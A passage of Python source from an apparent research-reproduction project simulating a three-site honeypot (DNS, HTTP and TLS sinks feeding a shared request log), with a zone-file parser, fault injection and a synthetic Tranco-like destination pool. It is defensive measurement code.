    monotonic time), so time-windowed queries can bisect.
    """

    def __init__(self, metrics=None):
        self._table = StringTable()
        self._times = array("d")
        """Entry times, append-ordered — :meth:`between` bisects these."""
        self._sites = array("i")
        self._protocols = array("i")
        self._srcs = array("i")
        self._domain_refs = array("i")
        self._paths = array("i")
        self._qtypes = array("i")
        self._uas = array("i")
        self._by_domain: Dict[str, List[int]] = {}
        self._by_protocol: Dict[str, List[int]] = {}
        """Entry indexes per protocol — maintained on append so
        :meth:`by_protocol` selects without a full scan."""
        self._cache: "weakref.WeakValueDictionary[int, LoggedRequest]" = \
            weakref.WeakValueDictionary()
        metrics = metrics if metrics is not None else NULL_REGISTRY
        self._m_requests = {
            protocol: metrics.counter(
                labeled("honeypot.requests", protocol=protocol)
            )
            for protocol in KNOWN_PROTOCOLS
        }

    @classmethod
    def merged(cls, shard_entries: Sequence[Sequence[LoggedRequest]]) -> "LogStore":
        """Deterministically interleave per-shard logs into one store.

        Entries order by (time, shard position, within-shard position):
        each shard's simulator already guarantees monotonic time, and the
        shard position breaks cross-shard ties stably — so the merged
        order depends only on the inputs, never on worker completion
        order.  Routing through :meth:`append` rebuilds every maintained
        index (times, by-domain, by-protocol), so windowed and filtered
        queries on the merged store match a serially-built one exactly.

        The merged store is deliberately un-instrumented: each entry was
        already counted by the live (per-shard) store it arrived at, and
        counting replays here would double telemetry totals.
        """
        store = cls()
        shard_entries = [list(entries) for entries in shard_entries]
        for position, index in merged_order(
            [[entry.time for entry in entries] for entries in shard_entries]
        ):
            store.append(shard_entries[position][index])
        return store

    def append(self, entry: LoggedRequest) -> None:
        if self._times and entry.time < self._times[-1]:
            raise ValueError(
                f"log must be appended in time order: {entry.time} after "
                f"{self._times[-1]}"
            )
        index = len(self._times)
        table = self._table
        self._times.append(entry.time)
        self._sites.append(table.intern(entry.site))
        self._protocols.append(table.intern(entry.protocol))
        self._srcs.append(table.intern(entry.src_address))
        self._domain_refs.append(table.intern(entry.domain))
        self._paths.append(table.intern_opt(entry.path))
        self._qtypes.append(NONE_REF if entry.qtype is None else entry.qtype)
        self._uas.append(table.intern_opt(entry.user_agent))
        self._by_domain.setdefault(entry.domain, []).append(index)
        self._by_protocol.setdefault(entry.protocol, []).append(index)
        self._cache[index] = entry
        self._m_requests[entry.protocol].inc()

    def _entry(self, index: int) -> LoggedRequest:
        """Materialize row ``index`` (same object while any ref is live)."""
        entry = self._cache.get(index)
        if entry is not None:
            return entry
        table = self._table
        qtype = self._qtypes[index]
        entry = LoggedRequest(
            time=self._times[index],
            site=table.value(self._sites[index]),
            protocol=table.value(self._protocols[index]),
            src_address=table.value(self._srcs[index]),
            domain=table.value(self._domain_refs[index]),
            path=table.value_opt(self._paths[index]),
            qtype=None if qtype == NONE_REF else qtype,
            user_agent=table.value_opt(self._uas[index]),
        )
        self._cache[index] = entry
        return entry

    def __len__(self) -> int:
        return len(self._times)

    def __iter__(self) -> Iterator[LoggedRequest]:
        return (self._entry(index) for index in range(len(self._times)))

    def all(self) -> Tuple[LoggedRequest, ...]:
        return tuple(self)

    def for_domain(self, domain: str) -> List[LoggedRequest]:
        """All requests bearing ``domain``, in arrival order."""
        return [self._entry(index) for index in self._by_domain.get(domain, [])]

    def domains(self) -> List[str]:
        return list(self._by_domain)

    def first_occurrence(self, domain: str) -> Optional[Tuple[float, int]]:
        """(time, index) of the first entry bearing ``domain``, or None.

        The index is the entry's position in this store; together with the
        shard position it forms the deterministic cross-shard ordering key
        :func:`repro.core.correlate.merge_shard_correlations` uses.
        """
        indexes = self._by_domain.get(domain)
        if not indexes:
            return None
        first = indexes[0]
        return self._times[first], first

    def between(self, start: float, end: float) -> List[LoggedRequest]:
        """Entries in the half-open window ``start <= time < end``.

        ``end`` is *exclusive*: an entry stamped exactly ``end`` is NOT
        returned.  (The pre-bisection linear scan used ``<=`` on both
        bounds; the bisect rewrite settled on half-open because it
        composes — ``between(a, b) + between(b, c) == between(a, c)``
        with no entry duplicated at the seam.  Pinned by
        ``tests/test_honeypot.py``.)  O(log n + k) via bisection over the
        append-ordered times.
        """
        low = bisect.bisect_left(self._times, start)
        high = bisect.bisect_left(self._times, end)
        return [self._entry(index) for index in range(low, high)]

    def tail(self, cursor: int = 0) -> Tuple[List[LoggedRequest], int]:
        """(entries appended at or after ``cursor``, new cursor).

        The cursor is a count of entries already consumed, so the window
        is half-open just like :meth:`between`: ``tail(0)`` yields the
        whole log, a second call with the returned cursor yields only
        what arrived in the meantime, and consecutive calls tile the log
        with no entry duplicated or skipped — the live-ingest contract
        :mod:`repro.serve` relies on (pinned by ``tests/test_honeypot``).
        O(k) in the tail length; never rescans consumed entries.
        """
        if cursor < 0:
            raise ValueError(f"tail cursor must be >= 0, got {cursor}")
        end = len(self._times)
        return [self._entry(index) for index in range(cursor, end)], end

    def by_protocol(self, protocol: str) -> List[LoggedRequest]:
        """All requests of one protocol, in arrival order — O(k) via the
        per-protocol index, not a full scan."""
        return [self._entry(index)
                for index in self._by_protocol.get(protocol, [])]

"""Unified, append-only request log shared by all honeypot services."""

import bisect
import heapq
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Sequence, Tuple

from repro.telemetry.registry import NULL_REGISTRY, labeled

PROTOCOL_DNS = "dns"
PROTOCOL_HTTP = "http"
PROTOCOL_HTTPS = "https"
KNOWN_PROTOCOLS = (PROTOCOL_DNS, PROTOCOL_HTTP, PROTOCOL_HTTPS)


@dataclass(frozen=True)
class LoggedRequest:
    """One request that arrived at a honeypot.

    ``domain`` is the experiment name the request carried (QNAME, Host, or
    SNI); correlation decodes the identifier embedded in it.
    """

    time: float
    site: str
    protocol: str
    src_address: str
    domain: str
    path: Optional[str] = None
    """Request path for HTTP(S); None for DNS."""
    qtype: Optional[int] = None
    """Query type for DNS; None otherwise."""
    user_agent: Optional[str] = None

    def __post_init__(self):
        if self.protocol not in KNOWN_PROTOCOLS:
            raise ValueError(f"unknown protocol {self.protocol!r}")


class LogStore:
    """Append-only log with by-domain and by-time retrieval.

    Entries are appended in event order (the simulator guarantees
    monotonic time), so time-windowed queries can bisect.
    """

    def __init__(self, metrics=None):
        self._entries: List[LoggedRequest] = []
        self._by_domain: Dict[str, List[int]] = {}
        self._by_protocol: Dict[str, List[int]] = {}
        """Entry indexes per protocol — maintained on append so
        :meth:`by_protocol` selects without a full scan."""
        self._times: List[float] = []
        """Entry times, parallel to ``_entries`` — maintained on append so
        :meth:`between` bisects without rebuilding the list per query."""
        metrics = metrics if metrics is not None else NULL_REGISTRY
        self._m_requests = {
            protocol: metrics.counter(
                labeled("honeypot.requests", protocol=protocol)
            )
            for protocol in KNOWN_PROTOCOLS
        }

    @classmethod
    def merged(cls, shard_entries: Sequence[Sequence[LoggedRequest]]) -> "LogStore":
        """Deterministically interleave per-shard logs into one store.

        Entries order by (time, shard position, within-shard position):
        each shard's simulator already guarantees monotonic time, and the
        shard position breaks cross-shard ties stably — so the merged
        order depends only on the inputs, never on worker completion
        order.

        The merged store is deliberately un-instrumented: each entry was
        already counted by the live (per-shard) store it arrived at, and
        counting replays here would double telemetry totals.
        """

        def keyed(position: int, entries: Sequence[LoggedRequest]):
            for index, entry in enumerate(entries):
                yield (entry.time, position, index), entry

        store = cls()
        for _, entry in heapq.merge(
            *(keyed(position, entries)
              for position, entries in enumerate(shard_entries))
        ):
            store.append(entry)
        return store

    def append(self, entry: LoggedRequest) -> None:
        if self._entries and entry.time < self._entries[-1].time:
            raise ValueError(
                f"log must be appended in time order: {entry.time} after "
                f"{self._entries[-1].time}"
            )
        self._by_domain.setdefault(entry.domain, []).append(len(self._entries))
        self._by_protocol.setdefault(entry.protocol, []).append(len(self._entries))
        self._entries.append(entry)
        self._times.append(entry.time)
        self._m_requests[entry.protocol].inc()

    def __len__(self) -> int:
        return len(self._entries)

    def __iter__(self) -> Iterator[LoggedRequest]:
        return iter(self._entries)

    def all(self) -> Tuple[LoggedRequest, ...]:
        return tuple(self._entries)

    def for_domain(self, domain: str) -> List[LoggedRequest]:
        """All requests bearing ``domain``, in arrival order."""
        return [self._entries[index] for index in self._by_domain.get(domain, [])]

    def domains(self) -> List[str]:
        return list(self._by_domain)

    def first_occurrence(self, domain: str) -> Optional[Tuple[float, int]]:
        """(time, index) of the first entry bearing ``domain``, or None.

        The index is the entry's position in this store; together with the
        shard position it forms the deterministic cross-shard ordering key
        :func:`repro.core.correlate.merge_shard_correlations` uses.
        """
        indexes = self._by_domain.get(domain)
        if not indexes:
            return None
        first = indexes[0]
        return self._times[first], first

    def between(self, start: float, end: float) -> List[LoggedRequest]:
        """Entries in the half-open window ``start <= time < end``.

        ``end`` is *exclusive*: an entry stamped exactly ``end`` is NOT
        returned.  (The pre-bisection linear scan used ``<=`` on both
        bounds; the bisect rewrite settled on half-open because it
        composes — ``between(a, b) + between(b, c) == between(a, c)``
        with no entry duplicated at the seam.  Pinned by
        ``tests/test_honeypot.py``.)  O(log n + k) via bisection over the
        append-ordered times.
        """
        low = bisect.bisect_left(self._times, start)
        high = bisect.bisect_left(self._times, end)
        return self._entries[low:high]

    def tail(self, cursor: int = 0) -> Tuple[List[LoggedRequest], int]:
        """(entries appended at or after ``cursor``, new cursor).

        The cursor is a count of entries already consumed, so the window
        is half-open just like :meth:`between`: ``tail(0)`` yields the
        whole log, a second call with the returned cursor yields only
        what arrived in the meantime, and consecutive calls tile the log
        with no entry duplicated or skipped — the live-ingest contract
        :mod:`repro.serve` relies on (pinned by ``tests/test_honeypot``).
        O(k) in the tail length; never rescans consumed entries.
        """
        if cursor < 0:
            raise ValueError(f"tail cursor must be >= 0, got {cursor}")
        return self._entries[cursor:], len(self._entries)

    def by_protocol(self, protocol: str) -> List[LoggedRequest]:
        """All requests of one protocol, in arrival order — O(k) via the
        per-protocol index, not a full scan."""
        return [self._entries[index]
                for index in self._by_protocol.get(protocol, [])]

"""Zone-file configuration for the honeypot authoritative server.

Production deployments configure wildcard zones in a master file; this
parser understands the subset the experiment needs — ``$ORIGIN``,
``$TTL``, SOA, NS, A records, and the wildcard ``*`` owner — and builds
an :class:`~repro.honeypot.authdns.AuthoritativeServer` from it.

Example::

    $ORIGIN www.experiment.domain.
    $TTL 3600
    @    IN SOA ns1.experiment.domain. hostmaster.experiment.domain. (
                 2024030101 7200 3600 1209600 300 )
    @    IN NS  ns1.experiment.domain.
    *    IN A   203.0.113.11
    *    IN A   203.0.113.21
"""

from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from repro.honeypot.authdns import AuthoritativeServer
from repro.honeypot.logstore import LogStore
from repro.net.addr import is_valid_ipv4
from repro.protocols.dns import normalize_name


class ZoneFileError(ValueError):
    """Raised for zone files the parser cannot accept."""


@dataclass
class ParsedZone:
    """What the parser extracted from a master file."""

    origin: str
    default_ttl: int
    soa: Optional[str]
    ns_names: List[str] = field(default_factory=list)
    wildcard_addresses: List[str] = field(default_factory=list)
    static_a: List[Tuple[str, str]] = field(default_factory=list)


def _strip_comment(line: str) -> str:
    # Comments start at an unquoted semicolon; the experiment zone never
    # quotes, so a plain split suffices.
    return line.split(";", 1)[0].rstrip()


def _join_parentheses(lines: List[str]) -> List[str]:
    """Merge multi-line parenthesized records (SOA spans lines)."""
    joined: List[str] = []
    buffer = ""
    depth = 0
    for line in lines:
        depth += line.count("(") - line.count(")")
        if buffer:
            buffer += " " + line.strip()
        elif depth > 0 or not line:
            buffer = line
        else:
            joined.append(line)
            continue
        if depth == 0 and buffer:
            joined.append(buffer.replace("(", " ").replace(")", " "))
            buffer = ""
    if depth != 0:
        raise ZoneFileError("unbalanced parentheses in zone file")
    return joined


def parse_zone(text: str) -> ParsedZone:
    """Parse zone-file text into a :class:`ParsedZone`."""
    raw_lines = [_strip_comment(line) for line in text.splitlines()]
    lines = _join_parentheses([line for line in raw_lines if line.strip()])

    origin: Optional[str] = None
    default_ttl = 3600
    soa: Optional[str] = None
    ns_names: List[str] = []
    wildcard: List[str] = []
    static_a: List[Tuple[str, str]] = []

    for line in lines:
        fields = line.split()
        if not fields:
            continue
        if fields[0] == "$ORIGIN":
            if len(fields) != 2:
                raise ZoneFileError(f"malformed $ORIGIN: {line!r}")
            origin = normalize_name(fields[1])
            continue
        if fields[0] == "$TTL":
            if len(fields) != 2 or not fields[1].isdigit():
                raise ZoneFileError(f"malformed $TTL: {line!r}")
            default_ttl = int(fields[1])
            continue
        if origin is None:
            raise ZoneFileError("records before $ORIGIN")
        owner = fields[0]
        rest = fields[1:]
        # Optional TTL column, then the IN class, are both tolerated.
        if rest and rest[0].isdigit():
            rest = rest[1:]
        if rest and rest[0].upper() == "IN":
            rest = rest[1:]
        if len(rest) < 2:
            raise ZoneFileError(f"truncated record: {line!r}")
        rtype = rest[0].upper()
        rdata = rest[1:]
        if rtype == "SOA":
            if len(rdata) != 7:
                raise ZoneFileError(f"SOA needs 7 fields, got {line!r}")
            soa = " ".join(
                [normalize_name(rdata[0]), normalize_name(rdata[1])] + rdata[2:]
            )
        elif rtype == "NS":
            ns_names.append(normalize_name(rdata[0]))
        elif rtype == "A":
            address = rdata[0]
            if not is_valid_ipv4(address):
                raise ZoneFileError(f"bad A record address {address!r}")
            if owner == "*":
                wildcard.append(address)
            else:
                name = origin if owner == "@" else f"{normalize_name(owner)}.{origin}"
                static_a.append((name, address))
        else:
            raise ZoneFileError(f"unsupported record type {rtype!r}")

    if origin is None:
        raise ZoneFileError("zone file has no $ORIGIN")
    return ParsedZone(
        origin=origin,
        default_ttl=default_ttl,
        soa=soa,
        ns_names=ns_names,
        wildcard_addresses=wildcard,
        static_a=static_a,
    )


def server_from_zonefile(text: str, log: LogStore,
                         site: str) -> AuthoritativeServer:
    """Build an authoritative server from zone-file text."""
    zone = parse_zone(text)
    if not zone.wildcard_addresses:
        raise ZoneFileError(
            "the experiment zone needs a wildcard A record pointing at the "
            "honey web servers"
        )
    return AuthoritativeServer(
        zone=zone.origin,
        web_addresses=zone.wildcard_addresses,
        log=log,
        site=site,
        record_ttl=zone.default_ttl,
    )

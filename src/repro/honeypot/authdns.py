"""Authoritative DNS server for the experiment zone.

Configured with a wildcard A record (TTL 3,600 per Section 3) resolving
every name under the experiment domain to the honey web servers.  Every
query is logged: the initial decoy's recursive lookup *and* any later
unsolicited re-queries both land here, which is what makes rule (iii) of
the unsolicited classifier decidable.
"""

from typing import Optional, Sequence

from repro.honeypot.logstore import LoggedRequest, LogStore, PROTOCOL_DNS
from repro.protocols.dns import (
    DnsMessage,
    QTYPE,
    RCODE,
    ResourceRecord,
    is_subdomain_of,
    make_response,
    normalize_name,
)

WILDCARD_RECORD_TTL = 3600


class AuthoritativeServer:
    """The honeypot-side authoritative server for one experiment zone."""

    def __init__(
        self,
        zone: str,
        web_addresses: Sequence[str],
        log: LogStore,
        site: str,
        record_ttl: int = WILDCARD_RECORD_TTL,
    ):
        if not web_addresses:
            raise ValueError("need at least one honey web address")
        self.zone = normalize_name(zone)
        self.web_addresses = tuple(web_addresses)
        self.record_ttl = record_ttl
        self._log = log
        self.site = site
        self.queries_served = 0
        self.refused = 0

    def covers(self, name: str) -> bool:
        """True when ``name`` falls inside the experiment zone."""
        return is_subdomain_of(name, self.zone)

    def resolve_address(self, name: str) -> str:
        """Wildcard resolution: deterministic honey web address per name."""
        index = sum(name.encode()) % len(self.web_addresses)
        return self.web_addresses[index]

    def handle_query(self, wire: bytes, src_address: str, now: float) -> bytes:
        """Process one query's wire bytes; returns response bytes.

        Queries outside the zone are REFUSED (and not logged as experiment
        traffic); in-zone queries are logged and answered from the
        wildcard.
        """
        query = DnsMessage.decode(wire)
        qname = query.qname
        if qname is None:
            self.refused += 1
            return make_response(
                DnsMessage(header=query.header, questions=query.questions or ()),
                rcode=RCODE.FORMERR,
            ).encode() if query.questions else wire
        if not self.covers(qname):
            self.refused += 1
            return make_response(query, rcode=RCODE.REFUSED).encode()
        self._log.append(
            LoggedRequest(
                time=now,
                site=self.site,
                protocol=PROTOCOL_DNS,
                src_address=src_address,
                domain=qname,
                qtype=query.questions[0].qtype,
            )
        )
        self.queries_served += 1
        answer = ResourceRecord(
            name=qname,
            rtype=QTYPE.A,
            ttl=self.record_ttl,
            rdata=self.resolve_address(qname),
        )
        return make_response(query, answers=(answer,), authoritative=True).encode()

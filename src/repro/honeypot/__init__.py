"""Honeypot infrastructure (Section 3).

Wildcard DNS for the experiment domain resolves every decoy name to honey
web servers in three locations (US, DE, SG); the authoritative DNS server,
honey website, and TLS sink all append to a unified
:class:`~repro.honeypot.logstore.LogStore`, the sole input of the
correlation stage.
"""

from repro.honeypot.authdns import AuthoritativeServer
from repro.honeypot.deployment import HoneypotDeployment, HoneypotSite
from repro.honeypot.logstore import LoggedRequest, LogStore
from repro.honeypot.tlsserver import HoneyTlsServer
from repro.honeypot.webserver import HoneyWebServer

__all__ = [
    "LogStore",
    "LoggedRequest",
    "AuthoritativeServer",
    "HoneyWebServer",
    "HoneyTlsServer",
    "HoneypotDeployment",
    "HoneypotSite",
]

"""The three-site honeypot deployment (US, DE, SG)."""

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from repro.honeypot.authdns import AuthoritativeServer
from repro.honeypot.logstore import LogStore
from repro.honeypot.tlsserver import HoneyTlsServer
from repro.honeypot.webserver import HoneyWebServer

DEFAULT_EXPERIMENT_ZONE = "www.experiment.domain"

# Honeypot addresses from TEST-NET-3, disjoint from every other address
# pool in the simulation.
_SITE_PLAN: Tuple[Tuple[str, str, str], ...] = (
    # (site, authoritative DNS address, honey web address)
    ("US", "203.0.113.10", "203.0.113.11"),
    ("DE", "203.0.113.20", "203.0.113.21"),
    ("SG", "203.0.113.30", "203.0.113.31"),
)


@dataclass
class HoneypotSite:
    """One honeypot location: authoritative DNS + web + TLS services."""

    name: str
    dns_address: str
    web_address: str
    authdns: AuthoritativeServer
    web: HoneyWebServer
    tls: HoneyTlsServer


class HoneypotDeployment:
    """All honeypot sites sharing one log store and one experiment zone."""

    def __init__(self, zone: str = DEFAULT_EXPERIMENT_ZONE,
                 log: Optional[LogStore] = None, metrics=None):
        self.zone = zone
        self.log = log if log is not None else LogStore(metrics=metrics)
        self.sites: Dict[str, HoneypotSite] = {}
        web_addresses = [web for _, _, web in _SITE_PLAN]
        for site_name, dns_address, web_address in _SITE_PLAN:
            authdns = AuthoritativeServer(
                zone=zone, web_addresses=web_addresses, log=self.log, site=site_name,
            )
            web = HoneyWebServer(address=web_address, log=self.log, site=site_name)
            tls = HoneyTlsServer(web=web)
            self.sites[site_name] = HoneypotSite(
                name=site_name,
                dns_address=dns_address,
                web_address=web_address,
                authdns=authdns,
                web=web,
                tls=tls,
            )

    @property
    def site_names(self) -> List[str]:
        return list(self.sites)

    def site_for_client(self, client_address: str) -> HoneypotSite:
        """Deterministic site selection, standing in for DNS-based
        load distribution across the three locations."""
        names = sorted(self.sites)
        index = sum(client_address.encode()) % len(names)
        return self.sites[names[index]]

    def authoritative_for(self, client_address: str) -> AuthoritativeServer:
        return self.site_for_client(client_address).authdns

    def resolve_experiment_name(self, name: str) -> Optional[str]:
        """Wildcard resolution as any recursive resolver would see it."""
        site = self.sites[sorted(self.sites)[0]]
        if not site.authdns.covers(name):
            return None
        return site.authdns.resolve_address(name)

    def web_site_by_address(self, address: str) -> Optional[HoneypotSite]:
        for site in self.sites.values():
            if site.web_address == address:
                return site
        return None

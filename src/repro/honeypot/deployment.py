"""The three-site honeypot deployment (US, DE, SG)."""

import dataclasses
from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from repro.honeypot.authdns import AuthoritativeServer
from repro.honeypot.logstore import LoggedRequest, LogStore
from repro.honeypot.tlsserver import HoneyTlsServer
from repro.honeypot.webserver import HoneyWebServer
from repro.telemetry.registry import NULL_REGISTRY

DEFAULT_EXPERIMENT_ZONE = "www.experiment.domain"

# Honeypot addresses from TEST-NET-3, disjoint from every other address
# pool in the simulation.
_SITE_PLAN: Tuple[Tuple[str, str, str], ...] = (
    # (site, authoritative DNS address, honey web address)
    ("US", "203.0.113.10", "203.0.113.11"),
    ("DE", "203.0.113.20", "203.0.113.21"),
    ("SG", "203.0.113.30", "203.0.113.31"),
)


class FaultInjectingLog(LogStore):
    """A :class:`LogStore` whose append path consults the fault plan.

    Three collector failure modes, all deterministic under the fault seed
    and all counted (no silent drops):

    * **Site outage** — a request arriving while its site is inside an
      injected downtime window is dropped entirely, as a crashed
      collector would lose it (``faults.honeypot_dropped``).
    * **Delayed append** — the entry lands late: the real append is
      scheduled at ``time + delay`` with the delayed timestamp, modeling
      collector write lag (``faults.log_delayed``).  Delays are keyed
      content draws, so the landing time is identical in serial and
      sharded runs.
    * **Duplicated append** — the entry is recorded twice back to back,
      as an at-least-once log sink would (``faults.log_duplicated``).
    """

    def __init__(self, sim, faults, metrics=None):
        super().__init__(metrics=metrics)
        self._sim = sim
        self._faults = faults
        metrics = metrics if metrics is not None else NULL_REGISTRY
        self._m_dropped = metrics.counter("faults.honeypot_dropped")
        self._m_delayed = metrics.counter("faults.log_delayed")
        self._m_duplicated = metrics.counter("faults.log_duplicated")

    def append(self, entry: LoggedRequest) -> None:
        if not self._faults.site_online(entry.site, entry.time):
            self._m_dropped.inc()
            return
        delay, duplicated = self._faults.log_append_fault(
            entry.site, entry.protocol, entry.src_address, entry.domain,
            entry.time,
        )
        if delay > 0.0:
            self._m_delayed.inc()
            landed = dataclasses.replace(entry, time=entry.time + delay)
            self._sim.schedule_in(
                delay,
                lambda landed=landed, duplicated=duplicated:
                    self._land(landed, duplicated),
                label="honeypot:delayed_append",
            )
            return
        self._land(entry, duplicated)

    def _land(self, entry: LoggedRequest, duplicated: bool) -> None:
        LogStore.append(self, entry)
        if duplicated:
            self._m_duplicated.inc()
            LogStore.append(self, entry)


@dataclass
class HoneypotSite:
    """One honeypot location: authoritative DNS + web + TLS services."""

    name: str
    dns_address: str
    web_address: str
    authdns: AuthoritativeServer
    web: HoneyWebServer
    tls: HoneyTlsServer


class HoneypotDeployment:
    """All honeypot sites sharing one log store and one experiment zone."""

    def __init__(self, zone: str = DEFAULT_EXPERIMENT_ZONE,
                 log: Optional[LogStore] = None, metrics=None):
        self.zone = zone
        self.log = log if log is not None else LogStore(metrics=metrics)
        self.sites: Dict[str, HoneypotSite] = {}
        web_addresses = [web for _, _, web in _SITE_PLAN]
        for site_name, dns_address, web_address in _SITE_PLAN:
            authdns = AuthoritativeServer(
                zone=zone, web_addresses=web_addresses, log=self.log, site=site_name,
            )
            web = HoneyWebServer(address=web_address, log=self.log, site=site_name)
            tls = HoneyTlsServer(web=web)
            self.sites[site_name] = HoneypotSite(
                name=site_name,
                dns_address=dns_address,
                web_address=web_address,
                authdns=authdns,
                web=web,
                tls=tls,
            )

    @property
    def site_names(self) -> List[str]:
        return list(self.sites)

    def site_for_client(self, client_address: str) -> HoneypotSite:
        """Deterministic site selection, standing in for DNS-based
        load distribution across the three locations."""
        names = sorted(self.sites)
        index = sum(client_address.encode()) % len(names)
        return self.sites[names[index]]

    def authoritative_for(self, client_address: str) -> AuthoritativeServer:
        return self.site_for_client(client_address).authdns

    def resolve_experiment_name(self, name: str) -> Optional[str]:
        """Wildcard resolution as any recursive resolver would see it."""
        site = self.sites[sorted(self.sites)[0]]
        if not site.authdns.covers(name):
            return None
        return site.authdns.resolve_address(name)

    def web_site_by_address(self, address: str) -> Optional[HoneypotSite]:
        for site in self.sites.values():
            if site.web_address == address:
                return site
        return None

"""TLS sink: records SNI from unsolicited ClientHellos.

Unsolicited HTTPS probes open TLS toward the honey web address; the sink
parses the ClientHello, logs the SNI, and (like a honeypot terminating
TLS) hands the connection to the web server for the request inside.
"""

import random
from typing import Optional

from repro.honeypot.logstore import LogStore
from repro.honeypot.webserver import HoneyWebServer
from repro.protocols.tls import ClientHello, TlsPlaintext
from repro.protocols.tls.record import CONTENT_TYPE_HANDSHAKE
from repro.protocols.tls.serverhello import ServerHello, negotiate


class HoneyTlsServer:
    """TLS front for the honey website at one site."""

    def __init__(self, web: HoneyWebServer, rng: Optional[random.Random] = None):
        self.web = web
        self.handshakes_seen = 0
        self._rng = rng if rng is not None else random.Random(0x7E15)

    def answer_hello(self, record_bytes: bytes) -> Optional[bytes]:
        """Negotiate a ServerHello for one ClientHello record.

        Returns the ServerHello record bytes, or None for non-handshake
        records — unsolicited probers see a syntactically complete
        handshake start, as a live site would give them.
        """
        record = TlsPlaintext.decode(record_bytes)
        if record.content_type != CONTENT_TYPE_HANDSHAKE:
            return None
        hello = ClientHello.decode(record.fragment)
        server_random = bytes(self._rng.randrange(256) for _ in range(32))
        server_hello = negotiate(hello, server_random)
        return TlsPlaintext(content_type=CONTENT_TYPE_HANDSHAKE,
                            fragment=server_hello.encode()).encode()

    def handle_connection(self, record_bytes: bytes, http_wire: Optional[bytes],
                          src_address: str, now: float) -> Optional[bytes]:
        """Process one TLS connection: ClientHello record, then optionally
        an HTTP request "inside" the session.

        Returns the web server's response bytes when a request was made.
        The simulation skips key exchange — what matters to the pipeline is
        that SNI and the tunneled request are observed and logged at the
        same timestamps a real deployment would log them.
        """
        record = TlsPlaintext.decode(record_bytes)
        if record.content_type != CONTENT_TYPE_HANDSHAKE:
            return None
        hello = ClientHello.decode(record.fragment)
        self.handshakes_seen += 1
        if http_wire is None:
            return None
        return self.web.handle_request(http_wire, src_address, now, over_tls=True)

    @staticmethod
    def peek_sni(record_bytes: bytes) -> Optional[str]:
        """SNI of a ClientHello record, without serving the connection."""
        record = TlsPlaintext.decode(record_bytes)
        if record.content_type != CONTENT_TYPE_HANDSHAKE:
            return None
        return ClientHello.decode(record.fragment).server_name

"""Synthetic stand-in for the Tranco top-1K destination pool.

The paper sends HTTP/TLS decoys to 2,325 addresses in 234 ASes behind the
Tranco top 1K sites.  We cannot ship that proprietary snapshot, so this
module synthesizes a deterministic pool of popular-looking web
destinations whose country mix mirrors Figure 3's destination axis (most
mass in US/CN plus a long tail including small economies like AD).
"""

from dataclasses import dataclass
from typing import List, Sequence, Tuple

from repro.net.addr import ip_from_int
from repro.simkit.rng import RandomRouter


@dataclass(frozen=True)
class WebDestination:
    """One address behind a synthetic top site."""

    site: str
    address: str
    asn: int
    country: str
    rank: int


# Destination-country mix for synthetic top sites.  US-heavy with a CN
# cluster and a long tail, echoing where Tranco top-1K infrastructure sits.
_COUNTRY_MIX: Tuple[Tuple[str, float], ...] = (
    ("US", 0.42),
    ("CN", 0.14),
    ("DE", 0.07),
    ("NL", 0.05),
    ("GB", 0.05),
    ("JP", 0.04),
    ("FR", 0.04),
    ("CA", 0.04),
    ("SG", 0.03),
    ("RU", 0.03),
    ("AD", 0.02),
    ("IE", 0.02),
    ("AU", 0.02),
    ("KR", 0.02),
    ("BR", 0.01),
)

_SITE_WORDS = (
    "search", "video", "mail", "shop", "news", "social", "cloud", "game",
    "stream", "pay", "travel", "code", "music", "photo", "chat", "wiki",
    "sport", "auction", "bank", "drive",
)

_WEB_ADDRESS_BASE = (198 << 24) | (18 << 16)  # 198.18.0.0/15 benchmark space


def _pick_country(rng, cumulative: Sequence[Tuple[str, float]]) -> str:
    point = rng.random()
    for country, cutoff in cumulative:
        if point <= cutoff:
            return country
    return cumulative[-1][0]


def generate_web_destinations(
    router: RandomRouter,
    site_count: int = 1000,
    addresses_per_site_mean: float = 2.3,
    as_pool_size: int = 234,
) -> List[WebDestination]:
    """Build the synthetic Tranco-like pool.

    Deterministic in the router's seed.  ``as_pool_size`` caps AS diversity
    at the paper's 234; ASes are synthetic numbers grouped by country.
    """
    if site_count < 1:
        raise ValueError(f"site_count must be positive, got {site_count}")
    rng = router.stream("tranco")
    cumulative = []
    running = 0.0
    for country, weight in _COUNTRY_MIX:
        running += weight
        cumulative.append((country, running))
    # Normalize in case weights do not sum to exactly 1.
    cumulative = [(country, cutoff / running) for country, cutoff in cumulative]

    # Pre-assign each synthetic AS a country so sites in one AS co-locate.
    from repro.datasets.asns import synthetic_asn

    as_countries = [
        (synthetic_asn(100_000 + index), _pick_country(rng, cumulative))
        for index in range(as_pool_size)
    ]

    destinations: List[WebDestination] = []
    address_cursor = 0
    for rank in range(1, site_count + 1):
        word = _SITE_WORDS[(rank - 1) % len(_SITE_WORDS)]
        site = f"{word}{rank}.example"
        asn, country = as_countries[rng.randrange(as_pool_size)]
        count = max(1, int(rng.gauss(addresses_per_site_mean, 1.0)))
        for _ in range(count):
            address = ip_from_int(_WEB_ADDRESS_BASE + address_cursor)
            address_cursor += 1
            destinations.append(
                WebDestination(site=site, address=address, asn=asn,
                               country=country, rank=rank)
            )
    return destinations


def sample_web_destinations(
    router: RandomRouter, pool: Sequence[WebDestination], count: int
) -> List[WebDestination]:
    """Deterministically sample ``count`` addresses from the pool."""
    if count >= len(pool):
        return list(pool)
    rng = router.stream("tranco.sample")
    return rng.sample(list(pool), count)

"""Embedded datasets from the paper's appendices.

* :mod:`repro.datasets.resolvers` — Table 4: the 36 DNS destinations.
* :mod:`repro.datasets.providers` — Table 5: the 19 VPN providers.
* :mod:`repro.datasets.countries` — country / CN-province seeds matching
  Table 1's coverage (82 countries, 30 of 31 provinces).
* :mod:`repro.datasets.asns` — autonomous systems named in the paper plus
  synthetic fillers.
* :mod:`repro.datasets.tranco` — synthetic stand-in for the Tranco top-1K
  destination pool (2,325 IPs in 234 ASes in the paper, scaled here).
"""

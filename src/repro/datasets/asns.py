"""Autonomous systems: the networks named in the paper plus filler pools.

Tables 3 and 6 and Section 5.2 name specific ASes — Chinanet backbones,
HostRoyale, Zenlayer, Google, Rogers, Constant Contact.  We register them
with their real numbers so the reproduced tables carry recognizable rows,
then pad each country with synthetic ASes for path diversity.
"""

from dataclasses import dataclass
from typing import Dict, Tuple


@dataclass(frozen=True)
class AutonomousSystem:
    """One AS in the synthetic topology."""

    asn: int
    name: str
    country: str
